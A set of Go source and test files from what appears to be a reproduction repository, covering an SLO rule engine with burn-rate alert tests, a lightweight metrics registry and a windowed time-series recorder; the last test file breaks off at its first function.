		t.Fatal("HasBurnRules = false")
	}

	// Warm-up: only 3 windows exist, slow=4 cannot be answered.
	warm := map[string][]float64{
		"retries": {9, 9, 9, 9},
		"ok":      {10, 10, 10, 10},
	}
	if fired := e.EvalBurn(3, windowLookup(warm, 3)); len(fired) != 0 {
		t.Fatalf("burn fired during warm-up: %+v", fired)
	}

	// Fast window hot but slow window still healthy: no fire (one noisy
	// interval must not page).
	spiky := map[string][]float64{
		"retries": {0, 0, 2, 2}, // fast(2)=4/20=0.2 > 0.1; slow(4)=4/40=0.1 not > 0.1
		"ok":      {10, 10, 10, 10},
	}
	if fired := e.EvalBurn(4, windowLookup(spiky, 4)); len(fired) != 0 {
		t.Fatalf("burn fired on fast-only violation: %+v", fired)
	}

	// Both windows hot: fires once, with both values recorded.
	hot := map[string][]float64{
		"retries": {2, 2, 3, 3},
		"ok":      {10, 10, 10, 10},
	}
	fired := e.EvalBurn(5, windowLookup(hot, 4))
	if len(fired) != 1 {
		t.Fatalf("got %d firings, want 1: %+v", len(fired), fired)
	}
	f := fired[0]
	if f.Rule.Name != "retry-burn" || f.Value != 6.0/20 || f.SlowValue != 0.25 || f.TSim != 5 {
		t.Fatalf("firing = %+v, want fast=0.3 slow=0.25 t=5", f)
	}

	// Dedupe across further window cuts.
	if again := e.EvalBurn(6, windowLookup(hot, 4)); len(again) != 0 {
		t.Fatalf("burn rule fired twice: %+v", again)
	}

	// EvalBurn never touches plain rules; Eval never touches burn rules.
	if fired := e.Eval(7, mapLookup(map[string]float64{"retries": 100, "ok": 1})); len(fired) != 1 || fired[0].Rule.Name != "plain" {
		t.Fatalf("Eval result = %+v, want only the plain rule", fired)
	}
	sum := Summary(e.Firings())
	if !strings.Contains(sum, "over 2w/4w") {
		t.Fatalf("summary %q missing burn window annotation", sum)
	}
	blob := string(MarshalFirings(e.Firings()))
	for _, frag := range []string{`"slow_value": 0.25`, `"fast": 2`, `"slow": 4`} {
		if !strings.Contains(blob, frag) {
			t.Errorf("marshal %s missing %q", blob, frag)
		}
	}
}

func TestEvalBurnSkipsZeroDenomAndNilLookup(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"b","metric":"m","denom":"d","op":">","threshold":0,"severity":"crit","burn":{"fast":1,"slow":2}}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	if fired := e.EvalBurn(0, nil); fired != nil {
		t.Fatalf("nil lookup fired: %+v", fired)
	}
	zero := map[string][]float64{"m": {5, 5}, "d": {0, 0}}
	if fired := e.EvalBurn(1, windowLookup(zero, 2)); len(fired) != 0 {
		t.Fatalf("zero denom fired: %+v", fired)
	}
	if e.CritCount() != 0 {
		t.Fatal("crit recorded for skipped rule")
	}
}
