package slo

import (
	"strings"
	"testing"
)

func TestParseTable(t *testing.T) {
	good := `[{"name":"battery-gap","metric":"core.battery_relative.secure_rsa","op":"<","threshold":0.5,"severity":"warn","reason":"Fig 4"}]`
	cases := []struct {
		name    string
		blob    string
		wantErr string // substring of the error, "" for success
	}{
		{"valid", good, ""},
		{"empty file", ``, "parsing rules"},
		{"empty list", `[]`, "declares no rules"},
		{"not a list", `{"name":"x"}`, "parsing rules"},
		{"bad comparator", `[{"name":"x","metric":"m","op":"<>","threshold":1,"severity":"warn"}]`, "bad comparator"},
		{"missing metric", `[{"name":"x","op":"<","threshold":1,"severity":"warn"}]`, "missing metric"},
		{"missing name", `[{"metric":"m","op":"<","threshold":1,"severity":"warn"}]`, "no name"},
		{"bad severity", `[{"name":"x","metric":"m","op":"<","threshold":1,"severity":"fatal"}]`, "bad severity"},
		{"bad aggregation", `[{"name":"x","metric":"m","agg":"p99","op":"<","threshold":1,"severity":"warn"}]`, "bad aggregation"},
		{"unknown field", `[{"name":"x","metric":"m","op":"<","treshold":1,"severity":"warn"}]`, "parsing rules"},
		{"duplicate names", `[{"name":"x","metric":"m","op":"<","threshold":1,"severity":"warn"},
		                     {"name":"x","metric":"m2","op":">","threshold":2,"severity":"crit"}]`, "duplicate rule name"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rules, err := Parse([]byte(tc.blob))
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				if len(rules) != 1 || rules[0].Name != "battery-gap" {
					t.Fatalf("got %+v", rules)
				}
				return
			}
			if err == nil {
				t.Fatalf("Parse accepted %s", tc.blob)
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("error %q does not mention %q", err, tc.wantErr)
			}
		})
	}
}

func mapLookup(m map[string]float64) Lookup {
	return func(metric, agg string) (float64, bool) {
		if agg != "" && agg != "value" {
			metric += "." + agg
		}
		v, ok := m[metric]
		return v, ok
	}
}

func TestEvalFiresOncePerRule(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"battery-gap","metric":"rel","op":"<","threshold":0.5,"severity":"warn"},
	  {"name":"gap-crit","metric":"demand","denom":"supply","op":">","threshold":1,"severity":"crit"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)

	// First snapshot: only the ratio rule's inputs exist, ratio under limit.
	fired := e.Eval(10, mapLookup(map[string]float64{"demand": 90, "supply": 100}))
	if len(fired) != 0 {
		t.Fatalf("fired early: %+v", fired)
	}

	// Second snapshot: both violate.
	fired = e.Eval(20, mapLookup(map[string]float64{"rel": 0.4, "demand": 651, "supply": 300}))
	if len(fired) != 2 {
		t.Fatalf("got %d firings, want 2: %+v", len(fired), fired)
	}
	if fired[0].Rule.Name != "battery-gap" || fired[0].Value != 0.4 || fired[0].TSim != 20 {
		t.Fatalf("firing 0: %+v", fired[0])
	}
	if fired[1].Rule.Name != "gap-crit" || fired[1].Value != 651.0/300 {
		t.Fatalf("firing 1: %+v", fired[1])
	}

	// Third snapshot, still violating: deduped.
	if again := e.Eval(30, mapLookup(map[string]float64{"rel": 0.1, "demand": 700, "supply": 300})); len(again) != 0 {
		t.Fatalf("rules fired twice: %+v", again)
	}
	if len(e.Firings()) != 2 {
		t.Fatalf("Firings() = %d, want 2", len(e.Firings()))
	}
	if e.CritCount() != 1 {
		t.Fatalf("CritCount() = %d, want 1", e.CritCount())
	}
}

func TestEvalSkipsAbsentAndZeroDenom(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"absent","metric":"never_recorded","op":">","threshold":0,"severity":"crit"},
	  {"name":"zero-denom","metric":"a","denom":"b","op":">","threshold":0,"severity":"crit"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	if fired := e.Eval(0, mapLookup(map[string]float64{"a": 5, "b": 0})); len(fired) != 0 {
		t.Fatalf("rules with missing data fired: %+v", fired)
	}
}

func TestEvalAggregations(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"mean-latency","metric":"lat","agg":"mean","op":">=","threshold":10,"severity":"warn"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	fired := e.Eval(0, mapLookup(map[string]float64{"lat.mean": 12}))
	if len(fired) != 1 || fired[0].Value != 12 {
		t.Fatalf("agg lookup failed: %+v", fired)
	}
}

func TestSummaryAndMarshal(t *testing.T) {
	rules, _ := Parse([]byte(`[
	  {"name":"retx-energy","metric":"energy.drained_uj.radio-retx","denom":"energy.drained_uj","op":">","threshold":0.3,"severity":"warn","reason":"ARQ overhead"}
	]`))
	e := NewEngine(rules)
	e.Eval(-1, mapLookup(map[string]float64{"energy.drained_uj.radio-retx": 40, "energy.drained_uj": 100}))
	sum := Summary(e.Firings())
	for _, frag := range []string{"WARN retx-energy", "/ energy.drained_uj", "> 0.3", "ARQ overhead"} {
		if !strings.Contains(sum, frag) {
			t.Errorf("summary %q missing %q", sum, frag)
		}
	}
	if Summary(nil) != "" {
		t.Error("Summary(nil) not empty")
	}
	blob := string(MarshalFirings(e.Firings()))
	for _, frag := range []string{`"rule": "retx-energy"`, `"value": 0.4`, `"t_sim": -1`} {
		if !strings.Contains(blob, frag) {
			t.Errorf("marshal %s missing %q", blob, frag)
		}
	}
	if string(MarshalFirings(nil)) != "[]" {
		t.Errorf("MarshalFirings(nil) = %s", MarshalFirings(nil))
	}
}
