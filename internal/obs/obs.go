// Package obs is the repository's zero-dependency observability layer:
// a concurrent-safe metrics registry (counters, gauges, fixed-bucket
// histograms), a lightweight span/event tracer with a bounded ring
// buffer (see trace.go), and opt-in pprof/expvar HTTP endpoints for the
// long-running cmd tools (see http.go).
//
// The paper's headline figures are measurement claims; this package
// makes the simulator's own spending measurable per layer, so a MIPS or
// joule regression can be attributed to crypto, ARQ, chaos, energy or
// sweep scheduling instead of guessed at from end-to-end numbers.
//
// Design constraints, in order:
//
//  1. Disabled must be almost free. Every instrument is a static handle
//     (package-level var in the instrumented layer, created at init via
//     C/G/H). When the registry is disarmed — the default — Add/Set/
//     Observe are a nil-or-flag check and return: no allocation, no
//     atomic write, no map lookup. Figure outputs stay byte-identical
//     and the benchreg gate is unaffected.
//  2. Enabled must be cheap and deterministic. Counters and histograms
//     are atomics (no locks on the hot path); histogram buckets are
//     fixed at creation so the exported layout never depends on the
//     observations; snapshots sort by name so JSON output is stable.
//  3. No dependencies beyond the standard library.
package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"math"
	"os"
	"runtime"
	"sort"
	"sync"
	"sync/atomic"
)

// Registry owns a namespace of metrics. The zero value is not usable;
// create with NewRegistry. A nil *Registry is valid everywhere and
// hands out nil instruments whose methods are no-ops, so callers can
// thread "no observability" without branching.
type Registry struct {
	armed atomic.Bool

	mu         sync.Mutex
	counters   map[string]*Counter
	gauges     map[string]*Gauge
	histograms map[string]*Histogram
}

// NewRegistry creates an empty, disarmed registry.
func NewRegistry() *Registry {
	return &Registry{
		counters:   make(map[string]*Counter),
		gauges:     make(map[string]*Gauge),
		histograms: make(map[string]*Histogram),
	}
}

// SetEnabled arms or disarms the registry. Instruments of a disarmed
// registry ignore updates (near-zero overhead); snapshots still work.
func (r *Registry) SetEnabled(on bool) {
	if r != nil {
		r.armed.Store(on)
	}
}

// Enabled reports whether the registry is armed. It is the fast check
// instrumented layers use before doing any enabled-only work (like
// reading the clock for a histogram sample).
func (r *Registry) Enabled() bool { return r != nil && r.armed.Load() }

// Counter returns the named counter, creating it on first use. The same
// name always returns the same handle. A nil registry returns nil.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{name: name, armed: &r.armed}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the named gauge, creating it on first use.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{name: name, armed: &r.armed}
		r.gauges[name] = g
	}
	return g
}

// Histogram returns the named histogram, creating it with the given
// fixed bucket upper bounds (ascending; an implicit +Inf bucket is
// appended). The layout is fixed at creation: a later call with
// different bounds returns the existing histogram unchanged, keeping
// the exported shape deterministic.
func (r *Registry) Histogram(name string, bounds []int64) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.histograms[name]
	if !ok {
		bs := make([]int64, len(bounds))
		copy(bs, bounds)
		sort.Slice(bs, func(i, j int) bool { return bs[i] < bs[j] })
		h = &Histogram{
			name:     name,
			armed:    &r.armed,
			bounds:   bs,
			counts:   make([]atomic.Int64, len(bs)+1),
			exemplar: make([]atomic.Uint64, len(bs)+1),
		}
		r.histograms[name] = h
	}
	return h
}

// Counter is a monotonically increasing atomic counter.
type Counter struct {
	name  string
	armed *atomic.Bool
	v     atomic.Int64
}

// Add increments the counter by n when its registry is armed. Safe on a
// nil handle; allocation-free in both states.
func (c *Counter) Add(n int64) {
	if c == nil || !c.armed.Load() {
		return
	}
	c.v.Add(n)
}

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count (0 on a nil handle).
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a last-value-wins float64 instrument.
type Gauge struct {
	name  string
	armed *atomic.Bool
	bits  atomic.Uint64
}

// Set records the gauge value when its registry is armed.
func (g *Gauge) Set(v float64) {
	if g == nil || !g.armed.Load() {
		return
	}
	g.bits.Store(math.Float64bits(v))
}

// Value returns the last set value (0 on a nil handle).
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return math.Float64frombits(g.bits.Load())
}

// Histogram is a fixed-bucket integer histogram (typically nanoseconds
// or bytes). Bucket counts and the sum are atomics; because the layout
// is fixed and counts are order-independent, a concurrent sweep yields
// the same exported histogram regardless of worker interleaving.
type Histogram struct {
	name     string
	armed    *atomic.Bool
	bounds   []int64 // ascending upper bounds; counts has one extra +Inf slot
	counts   []atomic.Int64
	exemplar []atomic.Uint64 // last trace ID that landed in each bucket
	count    atomic.Int64
	sum      atomic.Int64
}

// Observe records one sample when the registry is armed. Safe on a nil
// handle; allocation-free.
func (h *Histogram) Observe(v int64) {
	if h == nil || !h.armed.Load() {
		return
	}
	i := sort.Search(len(h.bounds), func(i int) bool { return v <= h.bounds[i] })
	h.counts[i].Add(1)
	h.count.Add(1)
	h.sum.Add(v)
}

// ObserveEx records one sample and, when trace is nonzero, stamps it
// as the bucket's exemplar: the trace ID of the most recent session
// that landed there, linking a histogram tail (say the p99 bucket of
// load.handshake_ns) to a concrete trace the waterfall panel can open.
// Last-writer-wins by design — an exemplar is a witness, not a count.
func (h *Histogram) ObserveEx(v int64, trace uint64) {
	if h == nil || !h.armed.Load() {
		return
	}
	i := sort.Search(len(h.bounds), func(i int) bool { return v <= h.bounds[i] })
	h.counts[i].Add(1)
	h.count.Add(1)
	h.sum.Add(v)
	if trace != 0 {
		h.exemplar[i].Store(trace)
	}
}

// Count returns the number of samples observed (0 on a nil handle).
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Sum returns the sum of all observed samples (0 on a nil handle).
func (h *Histogram) Sum() int64 {
	if h == nil {
		return 0
	}
	return h.sum.Load()
}

// CounterValue is one exported counter.
type CounterValue struct {
	Name  string `json:"name"`
	Value int64  `json:"value"`
}

// GaugeValue is one exported gauge.
type GaugeValue struct {
	Name  string  `json:"name"`
	Value float64 `json:"value"`
}

// HistogramValue is one exported histogram. Bounds[i] is the inclusive
// upper bound of Counts[i]; Counts has one extra overflow (+Inf) slot.
// P50/P95/P99 are nearest-rank quantiles resolved to bucket upper
// bounds (see BucketQuantile); 0 when the histogram is empty.
type HistogramValue struct {
	Name   string  `json:"name"`
	Count  int64   `json:"count"`
	Sum    int64   `json:"sum"`
	P50    int64   `json:"p50"`
	P95    int64   `json:"p95"`
	P99    int64   `json:"p99"`
	Bounds []int64 `json:"bounds"`
	Counts []int64 `json:"counts"`
	// Exemplars[i] is the hex trace ID of the last traced session that
	// landed in Counts[i] ("" when none); omitted entirely when no
	// bucket has one, so untraced runs serialize exactly as before.
	Exemplars []string `json:"exemplars,omitempty"`
}

// BucketQuantile returns the nearest-rank q-quantile of a fixed-bucket
// histogram as the upper bound of the bucket the rank lands in. counts
// must have one more slot than bounds (the overflow bucket); samples in
// overflow report the largest finite bound, because the layout cannot
// resolve beyond it. Returns 0 for an empty histogram or q outside
// (0, 1].
func BucketQuantile(bounds, counts []int64, q float64) int64 {
	if q <= 0 || q > 1 || len(bounds) == 0 {
		return 0
	}
	var total int64
	for _, c := range counts {
		total += c
	}
	if total == 0 {
		return 0
	}
	rank := int64(math.Ceil(q * float64(total)))
	var cum int64
	for i, c := range counts {
		cum += c
		if cum >= rank {
			if i >= len(bounds) {
				return bounds[len(bounds)-1]
			}
			return bounds[i]
		}
	}
	return bounds[len(bounds)-1]
}

// TraceStats is the trace ring's health summary, embedded in metric
// snapshots when tracing is active so a truncated trace is visible in
// the same artifact as the metrics it accompanies.
type TraceStats struct {
	Recorded uint64 `json:"recorded"`
	Dropped  uint64 `json:"dropped"`
	Capacity int    `json:"capacity"`
}

// Snapshot is a deterministic point-in-time export of a registry:
// every metric class sorted by name.
type Snapshot struct {
	GoVersion  string           `json:"go_version"`
	Counters   []CounterValue   `json:"counters"`
	Gauges     []GaugeValue     `json:"gauges"`
	Histograms []HistogramValue `json:"histograms"`
	Trace      *TraceStats      `json:"trace,omitempty"`
	// DTrace is the distributed-tracing ring's health, embedded when
	// -dtrace is active (same role Trace plays for the flat ring).
	DTrace *TraceStats `json:"dtrace,omitempty"`
}

// WriteJSON serializes the snapshot as indented JSON.
func (s *Snapshot) WriteJSON(w io.Writer) error {
	blob, err := json.MarshalIndent(s, "", "  ")
	if err != nil {
		return err
	}
	blob = append(blob, '\n')
	_, err = w.Write(blob)
	return err
}

// WriteFile writes the snapshot JSON to path.
func (s *Snapshot) WriteFile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("obs: %w", err)
	}
	if err := s.WriteJSON(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// Snapshot exports the registry's current state with all metric names
// sorted, so the same set of observations always serializes identically.
func (r *Registry) Snapshot() Snapshot {
	s := Snapshot{GoVersion: runtime.Version()}
	if r == nil {
		return s
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, c := range r.counters {
		s.Counters = append(s.Counters, CounterValue{Name: c.name, Value: c.Value()})
	}
	for _, g := range r.gauges {
		s.Gauges = append(s.Gauges, GaugeValue{Name: g.name, Value: g.Value()})
	}
	for _, h := range r.histograms {
		hv := HistogramValue{
			Name:   h.name,
			Count:  h.count.Load(),
			Sum:    h.sum.Load(),
			Bounds: append([]int64{}, h.bounds...),
		}
		for i := range h.counts {
			hv.Counts = append(hv.Counts, h.counts[i].Load())
		}
		any := false
		for i := range h.exemplar {
			if h.exemplar[i].Load() != 0 {
				any = true
				break
			}
		}
		if any {
			hv.Exemplars = make([]string, len(h.exemplar))
			for i := range h.exemplar {
				if id := h.exemplar[i].Load(); id != 0 {
					hv.Exemplars[i] = TraceHex(id)
				}
			}
		}
		hv.P50 = BucketQuantile(hv.Bounds, hv.Counts, 0.50)
		hv.P95 = BucketQuantile(hv.Bounds, hv.Counts, 0.95)
		hv.P99 = BucketQuantile(hv.Bounds, hv.Counts, 0.99)
		s.Histograms = append(s.Histograms, hv)
	}
	sort.Slice(s.Counters, func(i, j int) bool { return s.Counters[i].Name < s.Counters[j].Name })
	sort.Slice(s.Gauges, func(i, j int) bool { return s.Gauges[i].Name < s.Gauges[j].Name })
	sort.Slice(s.Histograms, func(i, j int) bool { return s.Histograms[i].Name < s.Histograms[j].Name })
	return s
}

// WriteJSON serializes the snapshot as indented JSON.
func (r *Registry) WriteJSON(w io.Writer) error {
	s := r.Snapshot()
	return s.WriteJSON(w)
}

// WriteFile writes the snapshot JSON to path.
func (r *Registry) WriteFile(path string) error {
	s := r.Snapshot()
	return s.WriteFile(path)
}

// Default is the process-wide registry the instrumented layers bind
// their static handles to at package init. It exists from process start
// but stays disarmed until a cmd opts in (see CLI), so the hot paths
// pay only the armed-flag check by default.
var Default = NewRegistry()

// Enabled reports whether the default registry is armed — the fast
// gate for enabled-only work such as reading the clock.
func Enabled() bool { return Default.Enabled() }

// C returns a counter in the default registry (for static handles).
func C(name string) *Counter { return Default.Counter(name) }

// G returns a gauge in the default registry.
func G(name string) *Gauge { return Default.Gauge(name) }

// H returns a histogram in the default registry.
func H(name string, bounds []int64) *Histogram { return Default.Histogram(name, bounds) }

// DurationBuckets is the shared fixed bucket layout for nanosecond
// timings: 1µs to ~1s in decade-and-a-half steps.
var DurationBuckets = []int64{
	1_000, 5_000, 10_000, 50_000, 100_000, 500_000,
	1_000_000, 5_000_000, 10_000_000, 50_000_000, 100_000_000, 1_000_000_000,
}

// SizeBuckets is the shared fixed bucket layout for byte sizes: 16 B to
// 64 KB in powers of four.
var SizeBuckets = []int64{16, 64, 256, 1024, 4096, 16384, 65536}
