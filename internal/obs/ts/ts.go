// Package ts is the windowed time-series layer on top of the obs
// metrics registry: it periodically diffs Registry.Snapshot() into
// fixed-interval windows — delta counters, last-value gauges, and
// per-window histogram merges with p50/p95/p99 derived from the fixed
// bucket bounds — so the SLO engine can fire on trajectories ("retry
// ratio rising over the last N windows") instead of only on end-of-run
// totals, and msreport can draw per-metric timelines.
//
// Windows are keyed by the caller's clock. Simulation cmds tick with
// Tick(tSim) from a deterministic point (the fleet epoch barrier), so
// the series file is byte-identical at any -workers × -shards
// combination and the CI determinism byte-diff extends to it. Wall-time
// tools (gateway, loadgen) tick with TickWall, which keys windows by
// milliseconds since Arm.
//
// The recorder honors the obs armed-lazily contract: a disarmed Tick is
// one atomic load and a branch — no allocation, no lock, no snapshot —
// so the fleet hot loop can call it unconditionally (enforced by
// TestDisarmedTickIsFree and BenchmarkDisabledSeriesTick).
package ts

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/obs"
)

// HistWindow is one histogram's activity within a single window: the
// delta count/sum plus nearest-rank quantiles over the delta bucket
// counts (quantiles of the samples observed during the window, not of
// the cumulative distribution).
type HistWindow struct {
	Name  string `json:"name"`
	Count int64  `json:"count"`
	Sum   int64  `json:"sum"`
	P50   int64  `json:"p50"`
	P95   int64  `json:"p95"`
	P99   int64  `json:"p99"`
}

// Window is one fixed-interval bucket of metric activity. Counters hold
// deltas (only metrics that moved); Gauges hold the last-set value of
// every gauge; Histograms hold per-window merges of the histograms that
// saw samples. I is the window ordinal, T the window key (t_sim or
// wall-clock ms since Arm). Empty windows are still recorded — they are
// the time base trailing-window SLO rules count against.
type Window struct {
	I          int64              `json:"i"`
	T          int64              `json:"t"`
	Counters   []obs.CounterValue `json:"counters,omitempty"`
	Gauges     []obs.GaugeValue   `json:"gauges,omitempty"`
	Histograms []HistWindow       `json:"histograms,omitempty"`
}

// maxWindows bounds recorder memory: beyond it, new windows are counted
// in Dropped instead of stored (an 18-hour soak at 1 s windows fits).
const maxWindows = 1 << 16

// Recorder cuts windows from a registry. The zero value is usable and
// disarmed; Arm starts recording. All methods are safe for concurrent
// use, but windows are cut in call order, so tick from one goroutine.
type Recorder struct {
	armed atomic.Bool

	mu           sync.Mutex
	reg          *obs.Registry
	onWindow     func(t int64)
	t0           time.Time
	prev         obs.Snapshot
	windows      []Window
	dropped      int64
	seenCounters map[string]bool
	seenHists    map[string]bool
}

// NewRecorder returns a disarmed recorder.
func NewRecorder() *Recorder { return &Recorder{} }

// Arm binds the recorder to reg, takes the baseline snapshot deltas are
// computed against, and enables ticking. onWindow (nil ok) runs
// synchronously after each window is cut with the window's key — the
// CLI hangs burn-rate SLO evaluation off it.
func (r *Recorder) Arm(reg *obs.Registry, onWindow func(t int64)) {
	r.mu.Lock()
	r.reg = reg
	r.onWindow = onWindow
	r.t0 = time.Now()
	r.prev = reg.Snapshot()
	r.seenCounters = make(map[string]bool)
	r.seenHists = make(map[string]bool)
	r.mu.Unlock()
	r.armed.Store(true)
}

// Enabled reports whether the recorder is armed.
func (r *Recorder) Enabled() bool { return r != nil && r.armed.Load() }

// Tick cuts a window keyed by the caller's model time. Disarmed cost is
// one atomic load and a branch (no allocation); call it unconditionally
// from deterministic points such as the fleet epoch barrier.
func (r *Recorder) Tick(t int64) {
	if r == nil || !r.armed.Load() {
		return
	}
	r.cut(t)
}

// TickWall cuts a window keyed by wall-clock milliseconds since Arm.
func (r *Recorder) TickWall() {
	if r == nil || !r.armed.Load() {
		return
	}
	r.cut(time.Since(r.t0).Milliseconds())
}

// cut snapshots the registry, diffs against the previous snapshot, and
// appends the window. The onWindow callback runs after the lock is
// released so it can call WindowLookup.
func (r *Recorder) cut(t int64) {
	r.mu.Lock()
	cur := r.reg.Snapshot()
	w := diff(&r.prev, &cur)
	w.I = int64(len(r.windows)) + r.dropped
	w.T = t
	if len(r.windows) >= maxWindows {
		r.dropped++
	} else {
		r.windows = append(r.windows, w)
		for _, c := range w.Counters {
			r.seenCounters[c.Name] = true
		}
		for _, h := range w.Histograms {
			r.seenHists[h.Name] = true
		}
	}
	r.prev = cur
	cb := r.onWindow
	r.mu.Unlock()
	if cb != nil {
		cb(t)
	}
}

// diff renders the activity between two snapshots as a window. Both
// snapshots are sorted by name per class, so the output order is
// deterministic without re-sorting.
func diff(prev, cur *obs.Snapshot) Window {
	var w Window
	pc := make(map[string]int64, len(prev.Counters))
	for _, c := range prev.Counters {
		pc[c.Name] = c.Value
	}
	for _, c := range cur.Counters {
		if d := c.Value - pc[c.Name]; d != 0 {
			w.Counters = append(w.Counters, obs.CounterValue{Name: c.Name, Value: d})
		}
	}
	if len(cur.Gauges) > 0 {
		w.Gauges = append([]obs.GaugeValue{}, cur.Gauges...)
	}
	ph := make(map[string]*obs.HistogramValue, len(prev.Histograms))
	for i := range prev.Histograms {
		ph[prev.Histograms[i].Name] = &prev.Histograms[i]
	}
	scratch := make([]int64, 0, 16)
	for i := range cur.Histograms {
		h := &cur.Histograms[i]
		p := ph[h.Name]
		dc, ds := h.Count, h.Sum
		if p != nil {
			dc -= p.Count
			ds -= p.Sum
		}
		if dc == 0 {
			continue
		}
		counts := scratch[:0]
		for j, c := range h.Counts {
			if p != nil && j < len(p.Counts) {
				c -= p.Counts[j]
			}
			counts = append(counts, c)
		}
		w.Histograms = append(w.Histograms, HistWindow{
			Name:  h.Name,
			Count: dc,
			Sum:   ds,
			P50:   obs.BucketQuantile(h.Bounds, counts, 0.50),
			P95:   obs.BucketQuantile(h.Bounds, counts, 0.95),
			P99:   obs.BucketQuantile(h.Bounds, counts, 0.99),
		})
		scratch = counts[:0]
	}
	return w
}

// WindowLookup resolves a rule's (metric, agg) pair over the trailing n
// windows: counters sum their deltas, gauges answer the most recent
// window's value, histograms aggregate their per-window delta
// count/sum. ok=false when fewer than n windows exist yet (burn-rate
// rules stay silent until their slow window has real history) or the
// metric was never seen. Shaped for slo.WindowLookup.
func (r *Recorder) WindowLookup(metric, agg string, n int) (float64, bool) {
	if r == nil {
		return 0, false
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if n <= 0 || len(r.windows) < n {
		return 0, false
	}
	tail := r.windows[len(r.windows)-n:]
	switch agg {
	case "", "value":
		if r.seenCounters[metric] {
			var sum int64
			for i := range tail {
				for _, c := range tail[i].Counters {
					if c.Name == metric {
						sum += c.Value
					}
				}
			}
			return float64(sum), true
		}
		for _, g := range tail[len(tail)-1].Gauges {
			if g.Name == metric {
				return g.Value, true
			}
		}
	case "count", "sum", "mean":
		if !r.seenHists[metric] {
			return 0, false
		}
		var cnt, sum int64
		for i := range tail {
			for _, h := range tail[i].Histograms {
				if h.Name == metric {
					cnt += h.Count
					sum += h.Sum
				}
			}
		}
		switch agg {
		case "count":
			return float64(cnt), true
		case "sum":
			return float64(sum), true
		case "mean":
			if cnt == 0 {
				return 0, false
			}
			return float64(sum) / float64(cnt), true
		}
	}
	return 0, false
}

// Windows returns a copy of the recorded windows.
func (r *Recorder) Windows() []Window {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]Window, len(r.windows))
	copy(out, r.windows)
	return out
}

// Dropped reports how many windows were discarded after the cap.
func (r *Recorder) Dropped() int64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.dropped
}

// WriteJSONL writes the recorded windows one JSON object per line, in
// cut order. Field order is fixed by the struct layout and window order
// by the tick sequence, so t_sim-keyed output is byte-identical across
// worker counts.
func (r *Recorder) WriteJSONL(w *bufio.Writer) error {
	for _, win := range r.Windows() {
		blob, err := json.Marshal(win)
		if err != nil {
			return err
		}
		if _, err := w.Write(blob); err != nil {
			return err
		}
		if err := w.WriteByte('\n'); err != nil {
			return err
		}
	}
	return w.Flush()
}

// WriteFile writes the recorded windows as JSONL to path.
func (r *Recorder) WriteFile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("ts: %w", err)
	}
	if err := r.WriteJSONL(bufio.NewWriter(f)); err != nil {
		f.Close()
		return fmt.Errorf("ts: %w", err)
	}
	return f.Close()
}

// ReadFile loads a JSONL series file written by WriteFile (msreport's
// -series input).
func ReadFile(path string) ([]Window, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("ts: %w", err)
	}
	defer f.Close()
	var out []Window
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	for sc.Scan() {
		line := sc.Bytes()
		if len(line) == 0 {
			continue
		}
		var w Window
		if err := json.Unmarshal(line, &w); err != nil {
			return nil, fmt.Errorf("ts: %s line %d: %w", path, len(out)+1, err)
		}
		out = append(out, w)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("ts: %w", err)
	}
	return out, nil
}

// Default is the process-wide recorder the obs CLI arms for -series; it
// registers itself as the obs series sink at init, so cmds that import
// ts (directly or blank) get -series support with no extra wiring.
var Default = NewRecorder()

func init() { obs.SetSeriesSink(Default) }

// Tick cuts a window on the default recorder, keyed by model time.
// Disarmed cost: one atomic load and a branch.
func Tick(t int64) { Default.Tick(t) }

// Enabled reports whether the default recorder is armed.
func Enabled() bool { return Default.Enabled() }
