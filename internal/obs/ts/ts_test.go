package ts

import (
	"bufio"
	"bytes"
	"path/filepath"
	"reflect"
	"testing"

	"repro/internal/obs"
)

// newArmedRecorder builds a private registry + armed recorder pair so
// tests never touch the process-wide defaults.
func newArmedRecorder(t *testing.T) (*obs.Registry, *Recorder) {
	t.Helper()
	reg := obs.NewRegistry()
	reg.SetEnabled(true)
	r := NewRecorder()
	r.Arm(reg, nil)
	return reg, r
}

func TestWindowDeltasAndGauges(t *testing.T) {
	reg, r := newArmedRecorder(t)
